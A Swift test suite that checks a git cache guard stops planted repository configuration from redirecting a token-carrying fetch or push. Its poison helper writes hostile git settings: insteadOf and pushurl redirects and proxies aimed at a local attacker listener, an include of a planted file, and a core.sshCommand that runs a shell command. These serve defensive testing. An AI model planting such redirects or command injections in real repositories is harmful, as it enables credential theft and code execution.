import Foundation
import Testing
import WardenCore
import WardenTestSupport

@testable import Git

@Suite("A poisoned cache configuration does not redirect a fetch or push carrying the token")
struct RepositoryConfigGuardTests {
    /// Configuration someone with write access to the data directory planted: every way to send git elsewhere.
    static func poison(_ repository: String, attacker: Int, serverURL: String) throws {
        let base = String(serverURL.prefix(upTo: serverURL.range(of: "acme/")!.lowerBound))
        let evil = "http://127.0.0.1:\(attacker)/"
        try Data("[http]\n\tproxy = \(evil)\n".utf8).write(to: URL(fileURLWithPath: repository + "/evil.config"))
        let handle = try FileHandle(forWritingTo: URL(fileURLWithPath: repository + "/config"))
        handle.seekToEndOfFile()
        handle.write(
            Data(
                """
                [url "\(evil)"]
                \tinsteadOf = \(base)
                \tpushInsteadOf = \(base)
                [remote "origin"]
                \tpushurl = \(evil)acme/app.git
                [include]
                \tpath = \(repository)/evil.config
                [core]
                \tsshCommand = touch /tmp/pwned
                [http "\(base)"]
                \tproxy = \(evil)

                """.utf8
            )
        )
        try handle.close()
        try FileManager.default.createDirectory(atPath: repository + "/remotes", withIntermediateDirectories: true)
        try Data("URL: \(evil)acme/app.git\n".utf8).write(to: URL(fileURLWithPath: repository + "/remotes/origin"))
    }

    @Test("the push lands on the git server; the attacker's listener gets no connection and no token", .timeLimit(.minutes(2)))
    func push() async throws {
        let fixture = try await GitServerFixture()
        defer { Task { await fixture.tearDown() } }
        let attacker = try await ConnectionRecorder.start()
        defer { Task { await attacker.stop() } }
        let sha = try await fixture.repository.commit(on: "main", files: ["a.txt": "x\n"])
        let worktree = try await fixture.worktree(project: 1, sha: sha, fetchRefs: [], name: "fix-config")
        let repository = fixture.cache.repositoryPath(project: 1)
        let clean = try String(contentsOfFile: repository + "/config", encoding: .utf8)
        try Self.poison(repository, attacker: attacker.port, serverURL: fixture.url)

        try Data("y\n".utf8).write(to: URL(fileURLWithPath: worktree.path + "/a.txt"))
        try await worktree.stageAll()
        let commit = try await worktree.commitStaged(message: "fix", authorName: "Warden", authorEmail: "warden@example.com")
        try await worktree.push(branch: "fix/config", remoteURL: fixture.url, credential: fixture.credential)

        #expect(try await fixture.repository.tip(of: "refs/heads/fix/config") == commit)
        #expect(attacker.connections == 0)
        #expect(!attacker.received.contains("Authorization"))
        let config = try String(contentsOfFile: repository + "/config", encoding: .utf8).lowercased()
        #expect(!config.contains("insteadof") && !config.contains("pushurl") && !config.contains("include") && !config.contains("proxy"))
        #expect(!config.contains("sshcommand") && config.contains(fixture.url.lowercased()))
        #expect(!FileManager.default.fileExists(atPath: repository + "/remotes"))
        #expect(clean.contains("bare = true"))
    }

    @Test("a fetch into the poisoned cache goes to the git server", .timeLimit(.minutes(2)))
    func fetch() async throws {
        let fixture = try await GitServerFixture()
        defer { Task { await fixture.tearDown() } }
        let attacker = try await ConnectionRecorder.start()
        defer { Task { await attacker.stop() } }
        let first = try await fixture.repository.commit(on: "main", files: ["a.txt": "x\n"])
        _ = try await fixture.worktree(project: 1, sha: first, fetchRefs: [], name: "fetch-1")
        try Self.poison(fixture.cache.repositoryPath(project: 1), attacker: attacker.port, serverURL: fixture.url)
        let second = try await fixture.repository.commit(on: "main", files: ["a.txt": "y\n"], parent: first)

        let worktree = try await fixture.worktree(project: 1, sha: second, fetchRefs: ["refs/heads/main"], name: "fetch-2")

        #expect(worktree.sha == second)
        #expect(attacker.connections == 0)
    }

    @Test("a clean clone's configuration is left as git wrote it")
    func cleanConfigUntouched() async throws {
        let fixture = try await GitServerFixture()
        defer { Task { await fixture.tearDown() } }
        let sha = try await fixture.repository.commit(on: "main", files: ["a.txt": "x\n"])
        let worktree = try await fixture.worktree(project: 1, sha: sha, fetchRefs: [], name: "clean")
        let path = fixture.cache.repositoryPath(project: 1) + "/config"
        let before = try Data(contentsOf: URL(fileURLWithPath: path))
        try await fixture.cache.fetch(project: 1, remoteURL: fixture.url, credential: fixture.credential, refs: ["refs/heads/main"])
        try Data("y\n".utf8).write(to: URL(fileURLWithPath: worktree.path + "/a.txt"))
        try await worktree.stageAll()
        try await worktree.commitStaged(message: "fix", authorName: "Warden", authorEmail: "warden@example.com")
        try await worktree.push(branch: "fix/clean", remoteURL: fixture.url, credential: fixture.credential)
        #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == before)
    }
}
